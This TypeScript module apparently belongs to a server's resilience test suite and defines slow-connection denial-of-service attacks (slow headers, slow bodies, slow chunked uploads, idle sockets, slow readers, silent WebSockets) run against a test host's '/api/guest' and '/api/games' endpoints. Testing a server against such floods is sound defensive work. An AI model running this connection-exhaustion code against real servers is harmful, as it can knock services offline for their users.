import type { Socket } from 'node:net';
import { setTimeout as pause } from 'node:timers/promises';
import { type Attack, type Field, swarm } from '../attack.ts';
import { openRaw, openTcp, write } from '../rawSocket.ts';

const NETWORKS = 5;
const MANY = 1000;

/** Opens many connections that send a byte now and then. */
function drip(name: string, begin: (field: Field) => string, drop: string): Attack {
  return {
    name,
    async run(field) {
      const sockets: Socket[] = [];
      await Promise.all(
        Array.from({ length: NETWORKS }, async (_, network) => {
          for (let i = 0; i < MANY / NETWORKS && !field.isOver(); i++) {
            const socket = await openTcp(field, network).catch(() => undefined);
            if (socket === undefined) continue;
            field.tally.sent++;
            sockets.push(socket.resume());
            await write(socket, begin(field)).catch(() => undefined);
          }
        }),
      );
      while (!field.isOver()) {
        for (const socket of sockets) if (!socket.destroyed && drop !== '') socket.write(drop);
        await Promise.race([field.over, pause(500)]);
      }
    },
  };
}

const slowHeaders = drip('slow headers', ({ host }) => `POST /api/guest HTTP/1.1\r\nHost: ${host}\r\n`, 'X-a: b\r\n');
const slowBodies = drip(
  'slow bodies',
  ({ host }) =>
    `POST /api/guest HTTP/1.1\r\nHost: ${host}\r\nContent-Type: application/json\r\nContent-Length: 100000\r\n\r\n`,
  ' ',
);
const slowChunks = drip(
  'slow chunks',
  ({ host }) =>
    `POST /api/guest HTTP/1.1\r\nHost: ${host}\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n`,
  '1\r\n \r\n',
);
const idle = drip('idle connections', () => '', '');

const slowReaders: Attack = {
  name: 'slow readers of pages',
  run: (field) =>
    swarm(field, 100, async (attacker) => {
      const socket = await openTcp(field, attacker % NETWORKS);
      socket.pause();
      field.tally.sent++;
      await write(socket, `GET /api/games HTTP/1.1\r\nHost: ${field.host}\r\n\r\n`.repeat(20));
      await pause(300);
      socket.destroy();
    }),
};

/** WebSockets that neither send, nor answer pings, nor close when asked to. */
const deadSockets: Attack = {
  name: 'WebSockets that never answer',
  async run(field) {
    for (let i = 0; i < 300 && !field.isOver(); i++) {
      field.tally.sent++;
      const socket = await openRaw(field, i % NETWORKS).catch(() => undefined);
      socket?.pause();
    }
    await field.over;
  },
};

/** What must not keep a server from stopping. */
export const allDrips: Attack = {
  name: 'drips of all kinds',
  async run(field) {
    await Promise.all([slowHeaders, slowBodies, slowChunks, idle, deadSockets].map((attack) => attack.run(field)));
  },
};

export const DRIP_ATTACKS: readonly Attack[] = [
  slowHeaders,
  slowBodies,
  slowChunks,
  idle,
  slowReaders,
  deadSockets,
  allDrips,
];
